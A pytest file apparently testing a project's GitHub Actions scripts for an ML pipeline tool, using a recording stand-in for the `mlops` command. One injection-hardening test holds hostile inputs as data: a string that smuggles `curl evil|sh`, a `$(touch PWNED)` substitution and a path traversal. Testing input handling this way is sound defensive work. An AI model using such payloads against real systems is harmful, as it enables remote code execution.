"""The compiled scripts, run as GitHub runs them, with a recording stand-in for `mlops`."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest

from mlops.app.reviewing.artifacts import digest
from tests.builders.repositories import commit, git
from tests.builders.workflows import jobs, project, workflows

JOBS = jobs(workflows(project()))
needs_jq = pytest.mark.skipif(shutil.which("jq") is None, reason="jq is not installed; GitHub's runners have it")


def script(job: str, name: str) -> str:
    (step,) = [step for step in JOBS[job]["steps"] if step["name"] == name]
    return str(step["run"])


def run(folder: Path, text: str, **environment: str) -> subprocess.CompletedProcess[str]:
    values = {"PATH": os.environ["PATH"], "GITHUB_OUTPUT": str(folder / "output"), **environment}
    command = ["bash", "-e", "-c", text]
    return subprocess.run(command, cwd=folder, env=values, capture_output=True, text=True, check=False)


def fake(folder: Path, body: str = "") -> None:
    """Put a stand-in where `make setup` puts mlops: it notes its arguments, then does what `body` says."""
    path = folder / ".venv" / "bin" / "mlops"
    path.parent.mkdir(parents=True)
    path.write_text(f'#!/bin/sh\necho "$@" >> calls\n{body}\n')
    path.chmod(0o755)


def calls(folder: Path) -> list[str]:
    return (folder / "calls").read_text().splitlines() if (folder / "calls").exists() else []


def outputs(folder: Path) -> dict[str, str]:
    return dict(line.split("=", 1) for line in (folder / "output").read_text().splitlines())


@pytest.mark.parametrize(("code", "ends", "said"), [(0, 0, ""), (7, 0, ""), (2, 2, "::error"), (6, 6, "")])
def test_an_alarm_that_nobody_answers_for_and_a_monitor_that_cannot_look_fail(
    code: int, ends: int, said: str, tmp_path: Path
) -> None:
    fake(tmp_path, f"exit {code}")
    done = run(tmp_path, script("monitor/watch", "Monitor"), PIPELINES="fraud visits", INDEX="3")
    assert done.returncode == ends, done.stderr
    assert calls(tmp_path) == ["monitor fraud visits --asking asking.txt"]
    assert done.stdout.startswith(said)
    assert not (tmp_path / "output").exists()


def test_reports_that_ask_are_told_by_the_index_of_the_job(tmp_path: Path) -> None:
    fake(tmp_path, "printf 'fraud:%064d\\nvisits:%064d\\n' 1 2 > asking.txt")
    done = run(tmp_path, script("monitor/watch", "Monitor"), PIPELINES="fraud visits", INDEX="3")
    assert done.returncode == 0, done.stderr
    assert outputs(tmp_path) == {"asked": "true", "reports-3": f"fraud:{1:064d} visits:{2:064d}"}


@needs_jq
@pytest.mark.parametrize(("names", "count"), [([], 0), (["churn"], 1), ([f"p{n:04}" for n in range(1000)], 1000)])
def test_what_is_due_is_shared_out_over_the_jobs_there_are(names: list[str], count: int, tmp_path: Path) -> None:
    fake(tmp_path, f"""echo '{json.dumps({"schema_version": 1, "pipelines": names})}'""")
    done = run(tmp_path, script("monitor/due", "Find what is due"), SCHEDULE="6 22 * * 1")
    assert done.returncode == 0, done.stderr
    assert calls(tmp_path) == ["monitor --due 6 22 * * 1 -o json"]
    told = outputs(tmp_path)
    found = json.loads(told["batches"])
    assert told["count"] == str(count)
    assert len(found) == min(count, 32)
    assert [batch["index"] for batch in found] == list(range(len(found)))
    assert [name for batch in found for name in batch["pipelines"].split()] == names


def test_a_schedule_that_cannot_be_asked_about_ends_the_job(tmp_path: Path) -> None:
    fake(tmp_path, "exit 4")
    assert run(tmp_path, script("monitor/due", "Find what is due"), SCHEDULE="1 1 * * *").returncode == 4
    assert not (tmp_path / "output").exists()


def alarms(**digests: str) -> str:
    first, *rest = (f"{name}:{digest}" for name, digest in digests.items())
    told = {"reports-0": first, "reports-1": "", "reports-2": " ".join(rest)}
    needs: dict[str, Any] = {"watch": {"result": "success", "outputs": {"asked": "true", **told}}}
    return json.dumps(needs)


@needs_jq
def test_a_report_that_was_swapped_proposes_nothing_and_ends_with_5(tmp_path: Path) -> None:
    for name in ("churn", "visits"):
        (tmp_path / "monitoring" / name).mkdir(parents=True)
        (tmp_path / "monitoring" / name / "report.json").write_text(f'{{"pipeline": "{name}"}}')
    fake(tmp_path)
    good = hashlib.sha256(b'{"pipeline": "visits"}').hexdigest()
    needs = alarms(churn="0" * 64, visits=good, missing="1" * 64)
    done = run(tmp_path, script("monitor/retrain", "Propose a retraining"), NEEDS=needs)
    assert done.returncode == 5
    assert calls(tmp_path) == ["retrain visits --cause monitoring/visits/report.json --propose"]
    assert "monitoring/churn/report.json is not the report that was made" in done.stdout
    assert "monitoring/missing/report.json is not the report that was made" in done.stdout


@needs_jq
def test_every_alarm_is_acted_on_even_where_one_fails(tmp_path: Path) -> None:
    digests = {}
    for name, place in (("churn", ""), ("visits", "production")):
        folder = tmp_path / "monitoring" / name / place
        folder.mkdir(parents=True)
        (folder / "report.json").write_text(name)
        digests[name] = hashlib.sha256(name.encode()).hexdigest()
    fake(tmp_path, 'case "$2" in churn) exit 6 ;; esac')
    done = run(tmp_path, script("monitor/retrain", "Propose a retraining"), NEEDS=alarms(**digests))
    assert done.returncode == 6
    assert [call.split()[1:4] for call in calls(tmp_path)] == [
        ["churn", "--cause", "monitoring/churn/report.json"],
        ["visits", "--cause", "monitoring/visits/production/report.json"],
    ]


@needs_jq
@pytest.mark.parametrize(
    ("before", "expected"),
    [("HEAD~1", "visits"), ("HEAD", ""), ("0" * 40, "churn visits"), ("", "churn visits")],
)
def test_a_bundle_is_new_where_the_merge_brought_its_report(before: str, expected: str, tmp_path: Path) -> None:
    git(tmp_path, "init", "-q", "-b", "main")
    for name in ("churn", "visits"):
        (tmp_path / "pipelines" / name / "reports").mkdir(parents=True)
        (tmp_path / "pipelines" / name / "reports" / "bundle.json").write_text("{}")
        commit(tmp_path, name)
    fake(tmp_path, """echo '{"affected": []}'""")
    sha = git(tmp_path, "rev-parse", before).strip() if before.startswith("HEAD") else before
    done = run(tmp_path, script("main/register", "Find the new bundles"), BEFORE=sha)
    assert done.returncode == 0, done.stderr
    assert outputs(tmp_path) == {"names": expected}


RECORDED = """case "$1 $2" in
  "record churn") echo '[{"state": "recorded"}]' ;;
  "record visits") echo '[{"state": "proposed"}]' ;;
esac"""


@needs_jq
def test_what_is_verified_alone_registers_nothing_new(tmp_path: Path) -> None:
    (tmp_path / "README").write_text("x")
    before = commit(tmp_path, "before")
    fake(tmp_path, """echo '{"affected": ["pinned", "stale"], "verified": ["pinned"]}'""")
    assert run(tmp_path, script("main/register", "Find the new bundles"), BEFORE=before).returncode == 0
    assert outputs(tmp_path) == {"names": "stale"}


def brought(folder: Path, path: str, plan: dict[str, Any]) -> subprocess.CompletedProcess[str]:
    """Find what a change affects that brings a file, with a plan that says so much."""
    (folder / "pipelines/gone/reports").mkdir(parents=True)
    (folder / "pipelines/gone/reports/gate.json").write_text("{}")
    base = commit(folder, "base")
    (folder / "pipelines/gone/reports/gate.json").unlink()
    (folder / path).parent.mkdir(parents=True, exist_ok=True)
    (folder / path).write_text("{}")
    commit(folder, "change")
    fake(folder, f"echo '{json.dumps(plan)}'")
    return run(folder, script("pr/affected", "Find the affected pipelines"), BASE=base)


@needs_jq
@pytest.mark.parametrize("path", ["pipelines/churn/dvc.lock", "pipelines/churn/reports/plots/a b.csv"])
def test_a_lock_or_report_that_the_plan_does_not_answer_for_is_no_skip(path: str, tmp_path: Path) -> None:
    done = brought(tmp_path, path, {"affected": ["visits"], "recorded": []})
    assert done.returncode == 5
    said = "::error title=churn is not judged::its lock or a report changes, and the plan does not affect it\n"
    assert done.stdout == said
    assert not (tmp_path / "output").exists()


@needs_jq
def test_the_batches_say_what_is_verified_before_it_runs(tmp_path: Path) -> None:
    plan = {"affected": ["churn", "visits"], "verified": ["churn"], "recorded": ["churn"]}
    done = brought(tmp_path, "pipelines/churn/dvc.lock", plan)
    assert done.returncode == 0, done.stderr
    found = json.loads(outputs(tmp_path)["batches"])
    assert [(batch["pipelines"], batch["recorded"]) for batch in found] == [("churn", "churn"), ("visits", "")]


@needs_jq
def test_a_change_that_brings_no_record_has_nothing_to_answer_for(tmp_path: Path) -> None:
    done = brought(tmp_path, "docs/dvc.lock", {"affected": []})
    none = {"count": "0", "batches": '[{"name":"none","pipelines":"","index":0}]'}
    assert (done.returncode, outputs(tmp_path)) == (0, none | digest_told(tmp_path))


def digest_told(folder: Path) -> dict[str, str]:
    return {"digest": hashlib.sha256((folder / "plan.json").read_bytes()).hexdigest()}


@pytest.mark.parametrize(
    ("recorded", "expected"), [("churn", ["verify churn"]), ("visits", ["run churn"]), ("", ["run churn"])]
)
def test_a_record_that_contradicts_itself_is_not_made_again(recorded: str, expected: list[str], tmp_path: Path) -> None:
    fake(tmp_path, '[ "$1" != verify ] || exit 5')
    done = run(tmp_path, script("pr/pipeline", "Run"), PIPELINES="churn", RECORDED=recorded)
    assert calls(tmp_path) == expected
    code = (tmp_path / "evidence/churn/exit-code").read_text()
    assert (done.returncode, code) == ((5, "5\n") if recorded == "churn" else (0, "0\n"))


@pytest.mark.parametrize("body", ["", '[ "$1" = verify ] || echo 2 > "pipelines/$2/dvc.lock"'])
def test_a_record_that_agrees_is_taken_as_it_is_and_what_is_missing_made(body: str, tmp_path: Path) -> None:
    for name in ("churn", "visits"):
        (tmp_path / "pipelines" / name).mkdir(parents=True)
        (tmp_path / "pipelines" / name / "dvc.lock").write_text("1\n")
    commit(tmp_path)
    fake(tmp_path, body)
    done = run(tmp_path, script("pr/pipeline", "Run"), PIPELINES="churn visits", RECORDED="visits")
    assert done.returncode == 0, done.stderr
    assert calls(tmp_path) == ["run churn", "verify visits", "run visits"]
    said = (
        "::warning title=visits came out otherwise than it is recorded::it was made again here: compare the two locks"
    )
    assert done.stdout.splitlines() == ([said] if body else [])


@needs_jq
def test_what_git_records_is_proposed_where_the_project_says_and_the_rest_is_recorded_first(tmp_path: Path) -> None:
    fake(tmp_path, RECORDED)
    name = "Propose the records and the releases"
    (step,) = [step for step in JOBS["main/register"]["steps"] if step["name"] == name]
    assert step["env"]["ENVIRONMENTS"] == "staging"
    done = run(tmp_path, step["run"], ENVIRONMENTS="staging", PIPELINES="churn visits")
    assert done.returncode == 0, done.stderr
    assert calls(tmp_path) == [
        "record churn -o json",
        "release churn --env staging --propose",
        "record visits -o json",
    ]


@needs_jq
def test_a_record_that_cannot_be_proposed_ends_the_job(tmp_path: Path) -> None:
    fake(tmp_path, "exit 6")
    proposing = script("main/register", "Propose the records and the releases")
    assert run(tmp_path, proposing, ENVIRONMENTS="staging", PIPELINES="churn visits").returncode == 6
    assert calls(tmp_path) == ["record churn -o json"]


@pytest.mark.parametrize("code", [2, 6, 7])
def test_what_is_worse_than_what_is_live_by_now_stops_no_other_and_fails_the_job(code: int, tmp_path: Path) -> None:
    fake(tmp_path, f'case "$2" in worse) exit {code} ;; broken) exit 5 ;; esac')
    registering = script("main/register", "Register")
    done = run(tmp_path, registering, PIPELINES="good worse better")
    assert done.returncode == 0, done.stderr
    assert outputs(tmp_path) == {"registered": "good better", "unfit": "worse"}
    assert run(tmp_path, registering, PIPELINES="broken").returncode == 5
    told = script("main/register", "Say what was not registered beside what is live")
    done = run(tmp_path, told, PIPELINES="worse", GITHUB_STEP_SUMMARY=str(tmp_path / "summary"))
    assert done.returncode == 1
    assert "`mlops waive worse`" in (tmp_path / "summary").read_text()


ASKED = {
    ("rollback/rollback", "Propose the bundle before"): "rollback --env prod --propose -- ",
    ("retrain/retrain", "Is there such a pipeline?"): "render -- ",
    ("retrain/retrain", "Look at what was served"): "monitor -- ",
    ("retrain/retrain", "Propose a retraining"): "retrain --propose -- ",
}


@pytest.mark.parametrize("asked", ASKED)
@pytest.mark.parametrize("typed", ['x";curl${IFS}evil|sh;"', "$(touch PWNED)", "*", "a b", "--help", "../churn"])
def test_what_was_typed_reaches_a_verb_as_one_word_that_is_no_option(
    asked: tuple[str, str], typed: str, tmp_path: Path
) -> None:
    fake(tmp_path, 'echo "$#" > words')
    run(tmp_path, script(*asked), PIPELINES=typed, ENVIRONMENT="prod")
    assert calls(tmp_path) == [f"{ASKED[asked]}{typed}"]
    assert (tmp_path / "words").read_text() == f"{len(ASKED[asked].split()) + 1}\n"
    assert not (tmp_path / "PWNED").exists()


def test_the_name_is_known_before_any_other_step_sees_it() -> None:
    steps = [step for step in JOBS["retrain/retrain"]["steps"] if "PIPELINES" in step.get("env", {})]
    assert steps[0]["name"] == "Is there such a pipeline?"


@needs_jq
def test_what_a_merge_left_to_ci_is_made_and_registered_as_well(tmp_path: Path) -> None:
    """`plan` names what the merge affects, beside the bundles that it brought."""
    (tmp_path / "pipelines/home/reports").mkdir(parents=True)
    (tmp_path / "pipelines/home/reports/bundle.json").write_text("{}")
    before = commit(tmp_path, "before")
    (tmp_path / "pipelines/home/reports/bundle.json").write_text('{"digest": 1}')
    commit(tmp_path, "merge")
    fake(tmp_path, """echo '{"affected": ["left", "home"]}'""")
    done = run(tmp_path, script("main/register", "Find the new bundles"), BEFORE=before)
    assert done.returncode == 0, done.stderr
    assert outputs(tmp_path) == {"names": "home left"}
    assert calls(tmp_path) == [f"plan --base {before} -o json"]


@needs_jq
@pytest.mark.parametrize(
    ("code", "ends", "names"), [(0, 0, {"names": "left"}), (2, 0, {"names": "left"}), (4, 4, {}), (6, 6, {})]
)
def test_a_plan_that_cannot_be_made_stops_and_one_beyond_its_budget_does_not(
    code: int, ends: int, names: dict[str, str], tmp_path: Path
) -> None:
    """Without its answer, what was left to CI would be passed over as if there were nothing to do."""
    (tmp_path / "README").write_text("x")
    before = commit(tmp_path, "before")
    fake(tmp_path, f"""echo '{{"affected": ["left"]}}'; exit {code}""")
    done = run(tmp_path, script("main/register", "Find the new bundles"), BEFORE=before)
    assert done.returncode == ends, done.stderr
    assert (outputs(tmp_path) if (tmp_path / "output").exists() else {}) == names


@needs_jq
def test_a_dispatch_or_a_first_push_takes_every_bundle_and_what_was_never_made_as_it_stands(tmp_path: Path) -> None:
    (tmp_path / "pipelines/home/reports").mkdir(parents=True)
    (tmp_path / "pipelines/home/reports/bundle.json").write_text("{}")
    commit(tmp_path, "first")
    fake(tmp_path, """echo '{"affected": ["left"]}'""")
    assert run(tmp_path, script("main/register", "Find the new bundles"), BEFORE="").returncode == 0
    assert outputs(tmp_path) == {"names": "home left"}
    assert calls(tmp_path) == ["plan -o json"]


def test_what_cannot_be_taken_over_is_left_to_be_made_and_a_defect_stops(tmp_path: Path) -> None:
    codes = 'case "$2" in gone) exit 6 ;; refused) exit 5 ;; broken) exit 1 ;; esac'
    fake(tmp_path, codes)
    taking = script("main/register", "Take over what was judged")
    done = run(tmp_path, taking, PIPELINES="good gone refused")
    assert done.returncode == 0, done.stderr
    assert outputs(tmp_path) == {"taken": "good", "gone": "gone refused"}
    assert calls(tmp_path) == ["adopt good", "adopt gone", "adopt refused"]
    assert done.stdout.splitlines() == [
        "::notice title=gone is made again here::what its pull request judged cannot be had",
        "::warning title=refused: an artifact was refused::it is not what its job made: refused is made again here",
    ]
    assert run(tmp_path, taking, PIPELINES="good broken").returncode == 1


def judge(folder: Path, before: str) -> tuple[dict[str, str], list[str]]:
    """Judge three pipelines, one of which fails the gate and one of which is not what was recorded."""
    for name in ("good", "worse", "forged"):
        (folder / "pipelines" / name).mkdir(parents=True)
        (folder / "pipelines" / name / "params.yaml").write_text(name)
        commit(folder, name)
    fake(folder, 'case "$1 $2" in "gate worse") exit 2 ;; "gate forged") exit 5 ;; esac')
    sha = git(folder, "rev-parse", before).strip() if before else ""
    text, summary = script("main/register", "Judge again"), str(folder / "summary")
    done = run(folder, text, PIPELINES="good worse forged", BEFORE=sha, GITHUB_STEP_SUMMARY=summary)
    assert done.returncode == 0, done.stderr
    return outputs(folder), calls(folder)


def test_what_cannot_be_made_stops_no_other(tmp_path: Path) -> None:
    fake(tmp_path, 'case "$1 $2" in "run worst") exit 2 ;; esac')
    done = run(tmp_path, script("main/register", "Make the others"), PIPELINES="good worst better")
    assert done.returncode == 0, done.stderr
    assert outputs(tmp_path) == {"made": "good better", "failed": "worst"}


def test_what_is_to_be_registered_is_judged_again_by_the_rules_before_the_push_too(tmp_path: Path) -> None:
    git(tmp_path, "init", "-q", "-b", "main")
    found, called = judge(tmp_path, "HEAD~2")
    base = git(tmp_path, "rev-parse", "HEAD~2").strip()
    assert found == {"passed": "good", "failed": "worse forged"}
    assert called == [f"gate {name} --base {base} --explain -o md" for name in ("good", "worse", "forged")]


def test_of_a_dispatch_the_base_is_the_commit_before_the_pipelines_last(tmp_path: Path) -> None:
    git(tmp_path, "init", "-q", "-b", "main")
    _, called = judge(tmp_path, "")
    first, before = (git(tmp_path, "rev-parse", commit).strip() for commit in ("HEAD~2", "HEAD~1"))
    assert called == [
        "gate good --base HEAD --explain -o md",  # its commit is the first of all: nothing was there before
        f"gate worse --base {first} --explain -o md",
        f"gate forged --base {before} --explain -o md",
    ]


def test_what_did_not_pass_is_named_with_what_to_do_and_the_job_is_red(tmp_path: Path) -> None:
    text = script("main/register", "Say what is not registered")
    done = run(tmp_path, text, PIPELINES="worse", GITHUB_STEP_SUMMARY=str(tmp_path / "summary"))
    assert done.returncode == 1
    said = (
        "::error title=worse is not registered::it did not pass, or could not be made again here; nothing went live\n"
    )
    assert (done.stdout, done.stderr) == (said, "")
    assert (tmp_path / "summary").read_text() == (
        "**worse is not registered.** What its data and its bundle come to here did not pass, is not what was\n"
        "recorded, or could not be made: the log of the step that made or judged it says why. What is live stays so.\n"
        "Run this workflow again; or train it at home (`mlops run worse`), `dvc push`, and bring its\n"
        "`dvc.lock` and reports by a pull request.\n"
    )


@pytest.mark.parametrize("code", [0, 2, 5])
def test_the_judge_tells_the_digest_of_its_verdicts_however_it_ends(code: int, tmp_path: Path) -> None:
    fake(tmp_path, f"mkdir -p evidence/churn && echo '{{}}' > evidence/churn/judged.json && exit {code}")
    told = {"PIPELINES": "churn", "INDEX": "3"}
    done = run(tmp_path, script("pr/judge", "Judge"), GITHUB_STEP_SUMMARY=str(tmp_path / "summary"), **told)
    assert done.returncode == code, done.stderr
    assert calls(tmp_path) == ["judge churn --change change --evidence left --record evidence -o md"]
    assert outputs(tmp_path) == {"verdict-3": digest(tmp_path / "evidence")}


def test_a_base_that_knows_no_judge_ends_with_7(tmp_path: Path) -> None:
    fake(tmp_path, '[ "$1" != judge ]')
    done = run(tmp_path, script("pr/judge", "Put the change in its place"))
    said = "::error title=The base cannot judge::its release of mlops knows no `mlops judge`: merge an upgrade first\n"
    assert (done.returncode, done.stdout) == (7, said)
